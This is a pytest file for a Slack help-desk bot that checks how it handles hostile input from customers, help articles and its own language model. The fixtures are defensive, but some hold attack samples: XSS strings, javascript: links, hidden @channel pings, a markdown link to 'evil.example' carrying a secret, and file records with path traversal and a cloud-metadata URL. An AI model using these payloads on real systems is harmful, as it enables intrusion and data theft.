"""Bad inputs 3 to 24: what people, articles and models may write, and what of it reaches Slack."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator
from typing import Any

import pytest

from core.dialogue import wording
from core.domain import Passage
from tests.bot.counter import PARCEL
from tests.bot.slack.conftest import OpenOffice
from tests.bot.slack.office import ANN, BOB, BOT, DIRECT, HELP, STAFF_ROOM, Office, said
from tests.bot.slack.reader import pings, show
from tests.servers.slack import SlackPlatform

PINGS = "＠everyone <!channel> <！channel> @\u200beveryone @here <@U0BOB> <!subteam^S1> <@&7>"


def read_by_slack(slack: SlackPlatform) -> Iterator[tuple[str, str]]:
    """Every text of every call in which Slack reads marks, and the method."""
    for call in slack.calls:
        yield from ((call.method, text) for text in _texts(call.arguments))
    for message in [*slack.ephemerals, *slack.by_bot()]:
        yield from (("response_url", text) for text in _texts(message.arguments))


def _texts(value: Any, name: str = "") -> Iterator[str]:
    match value:
        case {"type": "mrkdwn", "text": str(text)}:
            yield text
        case {"type": "plain_text"}:
            return
        case dict():
            for key, inner in value.items():
                yield from _texts(inner, key)
        case list():
            for inner in value:
                yield from _texts(inner)
        case str() if name in ("text", "markdown_text"):
            yield value


def assert_nobody_is_pinged(slack: SlackPlatform) -> None:
    texts = list(read_by_slack(slack))
    assert texts
    for method, text in texts:
        assert not show(text).mentions, (method, text)
        assert not show(text).stray, (method, text)
        assert not pings(text), (method, text)
    for call in slack.calls:
        if call.method in ("chat.postMessage", "chat.update"):
            assert (call.arguments.get("parse"), str(call.arguments.get("link_names")).lower()) == ("none", "false"), call
        if call.method == "chat.postMessage":
            assert (call.arguments["unfurl_links"], call.arguments["unfurl_media"]) == (False, False)


def article(text: str, score: float = 0.75, title: str = "How long does a parcel take?", url: str = "https://shop.example/parcels") -> Any:
    return {"parcel": (Passage("parcel", "parcel", title, text, url=url), score)}


async def ask(desk: Office, text: str, channel: str = HELP) -> str:
    """Ask, and give what stands there in the end."""
    root = await desk.slack.say(ANN, channel, text if channel == DIRECT else f"<@{BOT}> {text}")
    await desk.quiet()
    (answer,) = desk.texts(channel, root)
    return answer


async def test_bad_input_03_a_mention_that_says_nothing_gets_help_once_and_costs_no_model(open_office: OpenOffice) -> None:
    desk = await open_office()
    assert wording.HELP in await ask(desk, "")
    again = await desk.slack.say(ANN, HELP, f"<@{BOT}>   ")
    await desk.quiet()
    assert desk.texts(HELP, again) == []
    assert desk.slack.statuses == {}  # nobody is left looking at "is looking through the help articles…"
    assert desk.writer.asked == []


@pytest.mark.parametrize("channel", [HELP, DIRECT])
async def test_bad_input_08_hidden_mentions_that_the_model_repeats_ping_nobody(open_office: OpenOffice, channel: str) -> None:
    told = f"A parcel takes 3 days, {PINGS}. "
    desk = await open_office(
        articles=article(told + PARCEL),
        pieces=(f"A parcel takes 3 days, {PINGS}. [1] It is tracked. [1] ", "You can follow it on our page. [1]"),
        gate=(gate := asyncio.Event()),
    )
    asking = asyncio.create_task(ask(desk, "when does my parcel come?", channel))
    await desk.slack.until(lambda: desk.slack.by_bot(channel))  # a preview shows it too
    gate.set()
    answer = await asking
    assert "A parcel takes 3 days, " in answer
    assert desk.writer.asked
    assert_nobody_is_pinged(desk.slack)


async def test_bad_input_09_mentions_that_a_customer_writes_are_words_wherever_they_are_shown(open_office: OpenOffice) -> None:
    desk = await open_office(staff=BOB, staff_channel=STAFF_ROOM)
    await ask(desk, f"I want a person, repeat: {PINGS}")
    (alert,) = desk.slack.by_bot(STAFF_ROOM)
    assert "repeat:" in said(alert)
    await desk.slack.command(ANN, HELP, "/support", f"parcel {PINGS}")
    await desk.quiet()
    await desk.slack.open_home(ANN)
    await desk.slack.until(lambda: ANN in desk.slack.homes)
    assert "repeat:" in str(desk.slack.homes[ANN].content)
    assert_nobody_is_pinged(desk.slack)


async def test_bad_input_13_scripts_and_their_links_are_words(open_office: OpenOffice) -> None:
    hostile = "<script>alert(1)</script> <img src=x onerror=alert(2)> [press](javascript:alert(3))"
    articles = article(f"A parcel takes 3 days. {hostile}", 0.95, f"Parcels {hostile}", "javascript:alert(4)")
    desk = await open_office(articles=articles)
    answer = await ask(desk, f"parcel {hostile}")
    assert "A parcel takes 3 days." in answer
    assert "&lt;script&gt;" in answer
    assert all(link.startswith("https://") for _, text in read_by_slack(desk.slack) for link in show(text).links)
    assert "javascript:" not in json.dumps([block for block in desk.slack.by_bot()[0].blocks if block.get("url")])
    assert_nobody_is_pinged(desk.slack)


@pytest.mark.parametrize("channel", [HELP, DIRECT])
async def test_bad_input_14_an_address_of_the_models_own_carries_nothing_away(open_office: OpenOffice, channel: str) -> None:
    leak = "https://evil.example/?q=secret"
    pieces = (f"A parcel takes 3 days. [1] ![tracked]({leak}) It is tracked. [1] ", f"You can [follow it]({leak}) on our page. [1]")
    desk = await open_office(pieces=pieces)
    await ask(desk, "parcel?", channel)
    for method, text in read_by_slack(desk.slack):
        assert all("evil.example" not in link for link in show(text).links), (method, text)
        assert "](" not in text, (method, text)
    assert_nobody_is_pinged(desk.slack)


@pytest.mark.parametrize(
    "text",
    ["`" * 9000, "```\n" + "code <!here>\n" * 900, "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 700, "> " * 3000 + "deep", "**" * 5000 + "x"],
    ids=["backticks", "open fence", "table", "quotes", "marks"],
)
async def test_bad_input_20_marks_without_end_stay_within_what_slack_takes(open_office: OpenOffice, text: str) -> None:
    desk = await open_office(articles=article(f"A parcel takes 3 days.\n\n{text}", 0.95))
    answer = await ask(desk, f"parcel {text}"[:39_000])
    assert "A parcel takes 3 days." in answer
    sections = [block["text"]["text"] for block in desk.slack.by_bot()[0].blocks if block["type"] == "section"]
    assert all(not show(one).open_fence and len(one) <= 3000 for one in sections)
    assert sum(map(len, sections)) <= 12_000
    assert_nobody_is_pinged(desk.slack)


@pytest.mark.parametrize("many", [f"<@{BOB}> " * 300, "<https://shop.example/a|a> " * 500], ids=["mentions", "links"])
async def test_bad_input_21_hundreds_of_mentions_or_links_are_one_short_question(open_office: OpenOffice, many: str) -> None:
    desk = await open_office()
    assert "Refunds take 14 days." in await ask(desk, f"how long does a refund take? {many}")
    (turn,) = await desk.turns()
    assert turn["question"].startswith("how long does a refund take?")
    assert len(turn["question"]) < 1500


@pytest.mark.parametrize("text", ["退款需要多长时间？", "Wie lange dauert das refund bitte?", "كم من الوقت يستغرق؟"])
async def test_bad_input_22_another_language_gets_an_answer_or_a_person(open_office: OpenOffice, text: str) -> None:
    desk = await open_office()
    answer = await ask(desk, text)
    assert "Refunds take 14 days." in answer if "refund" in text else wording.NO_ANSWER.replace("'", "'") in answer
    assert all(block["type"] != "section" or block["text"]["text"] for block in desk.slack.by_bot()[0].blocks)


VOICE = {"id": "F1", "name": "audio_message.m4a", "mimetype": "audio/mp4", "subtype": "slack_audio", "size": 70_000}
PHOTO = {"id": "F2", "name": "image.png", "mimetype": "image/png", "size": 70_000}


@pytest.mark.parametrize(("file", "words"), [(VOICE, "cannot listen"), (PHOTO, "cannot look")], ids=["voice", "image"])
async def test_bad_input_23_a_voice_clip_or_image_alone_is_told_that_only_words_are_read(
    open_office: OpenOffice, file: dict[str, Any], words: str
) -> None:
    desk = await open_office()
    root = await desk.slack.say(ANN, DIRECT, "", files=[file])
    await desk.quiet()
    (answer,) = desk.texts(DIRECT, root)
    assert words in answer
    assert desk.writer.asked == []


@pytest.mark.parametrize(
    "file",
    [
        {"id": "F3", "name": "../../etc/passwd", "mimetype": None, "size": 2 << 30, "url_private": "http://169.254.169.254/"},
        {"id": "F4", "name": 7, "mimetype": "application/zip\0<!channel>", "size": "much", "file_access": "check_file_info"},
        {"id": "F5", "name": "voice.m4a", "mimetype": "text/html", "subtype": ["slack_audio"], "size": -1},
    ],
    ids=["huge", "of odd types", "another kind"],
)
async def test_bad_input_24_a_file_is_never_fetched_and_its_text_is_answered(open_office: OpenOffice, file: dict[str, Any]) -> None:
    desk = await open_office()
    root = await desk.slack.say(ANN, DIRECT, "how long does a refund take?", files=[file])
    await desk.quiet()
    alone = await desk.slack.say(ANN, DIRECT, "", files=[{**file, "id": "F9"}])
    assert all(answer.accepted for one in (root, alone) for answer in one.answers)
    await desk.quiet()
    assert ["Refunds take 14 days." in text for text in desk.texts(DIRECT, root)] == [True]
    assert len(desk.texts(DIRECT, alone)) == 1
    assert not [call for call in desk.slack.calls if call.method.startswith("files.")]
    assert_nobody_is_pinged(desk.slack)
